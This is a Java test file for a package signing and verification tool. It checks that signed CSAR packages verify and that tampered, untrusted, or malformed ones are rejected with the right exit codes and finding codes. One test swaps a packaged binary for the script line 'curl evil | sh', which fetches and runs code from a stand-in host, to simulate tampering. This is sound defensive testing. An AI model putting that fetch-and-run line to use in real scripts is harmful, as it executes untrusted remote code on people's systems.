package org.veripack.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.veripack.core.pki.TestPki;
import org.veripack.core.pki.TestPki.Issued;

/** {@code veripack sign} and {@code veripack verify} in-process: exit codes and the JSON report. */
class SignVerifyCommandTest {
    private static final String AT = TestPki.DEFAULT_NOW.toString();

    @TempDir Path dir;
    private Path root;
    private Path key;
    private Path cert;
    private Path chain;
    private Path pkg;

    /** Exit code, stdout and stderr of one in-process run. */
    record Run(int exit, String out, String err) {
        JsonNode json() throws Exception { return new ObjectMapper().readTree(out); }

        List<String> codes() throws Exception {
            List<String> codes = new ArrayList<>();
            json().get("findings").forEach(f -> codes.add(f.get("code").asText()));
            return codes;
        }
    }

    static Run run(String... args) {
        PrintStream oldOut = System.out;
        PrintStream oldErr = System.err;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        try {
            System.setOut(new PrintStream(out, true, StandardCharsets.UTF_8));
            System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
            int exit = Main.execute(args);
            return new Run(exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
        } finally {
            System.setOut(oldOut);
            System.setErr(oldErr);
        }
    }

    /** A vendor PKI as files: root CA, intermediate ({@code chain}), code-signing leaf and its key. */
    record SignerFiles(Path root, Path key, Path cert, Path chain) {
        /** Root -> CA -> "CN=Acme Code Signing,O=Acme", written into {@code dir}. */
        static SignerFiles write(Path dir) throws Exception {
            Issued r = TestPki.cert("CN=CLI Root,O=Acme").ca(true).build();
            Issued ca = TestPki.cert("CN=CLI CA,O=Acme").ca(true).issuedBy(r).build();
            Issued leaf = TestPki.cert("CN=Acme Code Signing,O=Acme").issuedBy(ca).build();
            SignerFiles f = new SignerFiles(dir.resolve("root.pem"), dir.resolve("signer.key"), dir.resolve("signer.pem"),
                    dir.resolve("chain.pem"));
            TestPki.writeCertificatesPem(f.root(), r.certificate());
            TestPki.writeCertificatesPem(f.cert(), leaf.certificate());
            TestPki.writeCertificatesPem(f.chain(), ca.certificate());
            TestPki.writePrivateKeyPem(f.key(), leaf.keyPair().getPrivate());
            return f;
        }
    }

    @BeforeEach
    void pki() throws Exception {
        SignerFiles f = SignerFiles.write(dir);
        root = f.root();
        key = f.key();
        cert = f.cert();
        chain = f.chain();
        pkg = Files.createDirectories(dir.resolve("pkg/Files/bin"));
        Files.writeString(pkg.resolve("mmed"), "#!/bin/sh\necho mme\n");
        pkg = dir.resolve("pkg");
    }

    private Path signCsar(String out, String... extra) {
        List<String> args = new ArrayList<>(List.of("sign", "--key", key.toString(), "--cert", cert.toString(),
                "--chain", chain.toString(), "--csar", pkg.toString(), "--name", "acme-mme", "--version", "2.1",
                "--out", dir.resolve(out).toString()));
        args.addAll(List.of(extra));
        Run r = run(args.toArray(String[]::new));
        assertEquals(ExitCode.OK, r.exit(), r.err());
        return dir.resolve(out);
    }

    @Test
    void signedCsarVerifiesWithExitZeroAndOneJsonDocument() throws Exception {
        Path csar = signCsar("mme.csar");
        Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", csar.toString());
        assertEquals(ExitCode.OK, r.exit(), r.err());
        JsonNode j = r.json();
        assertEquals("ACCEPTED", j.get("verdict").asText());
        assertEquals("CSAR_OPTION_1", j.get("format").asText());
        assertEquals("acme-mme", j.get("package").get("name").asText());
        assertTrue(r.err().startsWith("ACCEPTED"), r.err());
        assertTrue(r.err().lines().findFirst().orElse("").contains(" signed by "), r.err());
        assertTrue(j.get("packageSha256").isNull(), "no whole-file digest unless asked for");
        Run d = run("verify", "--trust", root.toString(), "--at", AT, "--json", "--package-digest", csar.toString());
        assertEquals(ExitCode.OK, d.exit(), d.err());
        assertEquals(java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                .digest(java.nio.file.Files.readAllBytes(csar))), d.json().get("packageSha256").asText());
    }

    @Test
    void tamperedCsarExitsOneWithFindingCodes() throws Exception {
        Path csar = signCsar("mme.csar");
        Path tampered = rewrite(csar, "tampered.csar", (name, data) -> name.equals("Files/bin/mmed")
                ? "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8) : data);
        Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", tampered.toString());
        assertEquals(ExitCode.REJECTED, r.exit(), r.err());
        assertTrue(r.codes().contains("DIGEST_MISMATCH"), r.out());
        assertTrue(r.err().contains("DIGEST_MISMATCH"), r.err());

        // the operator must not countersign bytes the vendor never signed
        Path countersigned = dir.resolve("countersigned.csar");
        Run c = run("countersign", "--key", key.toString(), "--cert", cert.toString(), "--in", tampered.toString(),
                "--out", countersigned.toString());
        assertEquals(ExitCode.REJECTED, c.exit(), c.err());
        assertTrue(c.err().contains("DIGEST_MISMATCH"), c.err());
        assertFalse(Files.exists(countersigned), "nothing written");

        Path policy = Files.writeString(dir.resolve("policy.yaml"), "trustAnchors: [root.pem]\nallowedDigestAlgorithms: [SHA-512]\n");
        Run p = run("verify", "--policy", policy.toString(), "--at", AT, "--json", csar.toString());
        assertEquals(ExitCode.REJECTED, p.exit(), p.err());
        assertTrue(p.codes().contains("ALGORITHM_REJECTED"), p.out());
    }

    @Test
    void signRefusesADirectoryWithANonCanonicalSymlinkTarget() throws Exception {
        // `ln -s bin/ sbin` signed fine and then bricked the node (Path normalised it)
        Process ln = new ProcessBuilder("ln", "-s", "bin/", pkg.resolve("Files/sbin").toString()).inheritIO().start();
        assertEquals(0, ln.waitFor());
        Path out = dir.resolve("bad.csar");
        Run r = run("sign", "--key", key.toString(), "--cert", cert.toString(), "--chain", chain.toString(),
                "--csar", pkg.toString(), "--name", "acme-mme", "--version", "2.1", "--out", out.toString());
        assertEquals(ExitCode.USAGE, r.exit(), r.err());
        assertTrue(r.err().contains("Files/sbin"), r.err());
        assertFalse(Files.exists(out), "nothing written");
    }

    @Test
    void aTypoInEtsiEntryManifestNamesTheExpectedAndTheExistingManifest() throws Exception {
        Path csar = signCsar("mme.csar");
        String[] manifest = new String[1];
        Path typo = rewrite(csar, "typo.csar", (name, data) -> {
            if (!name.equals("TOSCA-Metadata/TOSCA.meta")) {
                return data;
            }
            String meta = new String(data, StandardCharsets.UTF_8);
            java.util.regex.Matcher m = java.util.regex.Pattern.compile("ETSI-Entry-Manifest: *(\\S+)").matcher(meta);
            assertTrue(m.find(), meta);
            manifest[0] = m.group(1);
            return meta.replace("ETSI-Entry-Manifest: " + manifest[0], "ETSI-Entry-Manifest: " + manifest[0] + "1")
                    .getBytes(StandardCharsets.UTF_8);
        });
        Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", typo.toString());
        assertEquals(ExitCode.REJECTED, r.exit(), r.err());
        JsonNode finding = null;
        for (JsonNode f : r.json().get("findings")) {
            if (f.get("code").asText().equals("MALFORMED_PACKAGE") && f.get("subject").asText().equals("TOSCA-Metadata/TOSCA.meta")) {
                finding = f;
            }
        }
        assertTrue(finding != null, r.out());
        assertEquals(manifest[0] + "1", finding.get("expected").asText());
        assertEquals(manifest[0], finding.get("actual").asText());
    }

    /** A copy of {@code csar} named {@code name} in the test directory, each entry's bytes passed through {@code change}. */
    private Path rewrite(Path csar, String name, java.util.function.BiFunction<String, byte[], byte[]> change) throws Exception {
        Path copy = dir.resolve(name);
        try (ZipFile in = ZipFile.builder().setPath(csar).get();
             ZipArchiveOutputStream out = new ZipArchiveOutputStream(copy)) {
            for (ZipArchiveEntry e : Collections.list(in.getEntriesInPhysicalOrder())) {
                byte[] data = change.apply(e.getName(), in.getInputStream(e).readAllBytes());
                ZipArchiveEntry c = new ZipArchiveEntry(e.getName());
                c.setUnixMode(e.getUnixMode());
                out.putArchiveEntry(c);
                out.write(data);
                out.closeArchiveEntry();
            }
        }
        return copy;
    }

    @Test
    void untrustedAnchorExitsOne() throws Exception {
        Path csar = signCsar("mme.csar");
        Path other = dir.resolve("other-root.pem");
        TestPki.writeCertificatesPem(other, TestPki.cert("CN=Other").ca(true).build().certificate());
        Run r = run("verify", "--trust", other.toString(), "--at", AT, "--json", csar.toString());
        assertEquals(ExitCode.REJECTED, r.exit(), r.err());
        assertTrue(r.codes().contains("SIGNER_UNTRUSTED"), r.out());
        // the verdict line names the signer but never says "signed by" of a signature that did not verify
        String verdict = r.err().lines().findFirst().orElse("");
        assertTrue(verdict.startsWith("REJECTED") && verdict.contains("CN=Acme") && !verdict.contains("signed by"), r.err());
    }

    @Test
    void option2AndDetachedRoundTrip() throws Exception {
        Path outer = signCsar("mme-opt2.zip", "--option2");
        Run r = run("verify", "--trust", root.toString(), "--at", AT, "--json", outer.toString());
        assertEquals(ExitCode.OK, r.exit(), r.err());
        assertEquals("CSAR_OPTION_2", r.json().get("format").asText());

        Path file = Files.writeString(dir.resolve("image.tar"), "any bytes at all\n");
        Run s = run("sign", "--key", key.toString(), "--cert", cert.toString(), "--chain", chain.toString(),
                "--detached", file.toString());
        assertEquals(ExitCode.OK, s.exit(), s.err());
        Path sig = dir.resolve("image.tar.p7s");
        assertTrue(Files.isRegularFile(sig));
        Run v = run("verify", "--trust", root.toString(), "--at", AT, "--json", file.toString(), "--signature", sig.toString());
        assertEquals(ExitCode.OK, v.exit(), v.err());
        Files.writeString(file, "any bytes at all, changed\n");
        Run t = run("verify", "--trust", root.toString(), "--at", AT, "--json", file.toString(), "--signature", sig.toString());
        assertEquals(ExitCode.REJECTED, t.exit(), t.err());
        assertTrue(t.codes().contains("SIGNATURE_INVALID"), t.out());
    }

    @Test
    void usageErrorsExitTwoWithoutStackTrace() throws Exception {
        Path csar = signCsar("mme.csar");
        List<Run> runs = List.of(
                run("verify", "--trust", root.toString(), dir.resolve("missing.csar").toString()),
                run("verify", "--trust", dir.resolve("missing.pem").toString(), csar.toString()),
                run("verify", csar.toString()),
                run("verify", "--trust", root.toString(), "--at", "yesterday", csar.toString()),
                run("verify", "--policy", Files.writeString(dir.resolve("bad.yaml"), "trustAnchor: [root.pem]\n").toString(), csar.toString()),
                run("verify", "--trust", root.toString(), csar.toString(), "--signature", dir.resolve("nope.p7s").toString()),
                run("sign", "--key", dir.resolve("nokey.pem").toString(), "--cert", cert.toString(), "--csar", pkg.toString(),
                        "--name", "a", "--version", "1", "--out", dir.resolve("x.csar").toString()),
                run("sign", "--key", key.toString(), "--cert", cert.toString(), "--csar", pkg.toString(),
                        "--out", dir.resolve("x.csar").toString()),
                run("sign", "--key", key.toString(), "--cert", cert.toString(), "--csar", pkg.toString(), "--digest", "MD5",
                        "--name", "a", "--version", "1", "--out", dir.resolve("x.csar").toString()));
        for (Run r : runs) {
            assertEquals(ExitCode.USAGE, r.exit(), r.err());
            assertFalse(r.err().contains("\tat "), r.err());
            assertTrue(r.out().isEmpty(), r.out());
        }
    }

    @Test
    void onapSampleVerifiesThroughAPolicyFile() throws Exception {
        // the samples kept in the core module's test resources (surefire runs with the module as working directory)
        Path onap = Path.of("../veripack-core/src/test/resources/interop/onap-sol004").toAbsolutePath().normalize();
        Path policy = Files.writeString(dir.resolve("onap.yaml"), "trustAnchors: [" + onap.resolve("anchor-2020-09.pem")
                + "]\nrequireCodeSigningEku: false\n");
        Run ok = run("verify", "--policy", policy.toString(), "--at", "2020-10-01T00:00:00Z", "--json",
                onap.resolve("csar-cert-in-cms-valid.csar").toString());
        assertEquals(ExitCode.OK, ok.exit(), ok.err());
        assertEquals("myPnf", ok.json().get("package").get("name").asText());
        Run expired = run("verify", "--policy", policy.toString(), "--json", onap.resolve("csar-cert-in-cms-valid.csar").toString());
        assertEquals(ExitCode.REJECTED, expired.exit(), expired.err());
        assertTrue(expired.codes().contains("CERT_EXPIRED"), expired.out());
    }

    @Test
    void helpWorks() {
        assertEquals(ExitCode.OK, run("sign", "--help").exit());
        assertEquals(ExitCode.OK, run("verify", "--help").exit());
    }
}
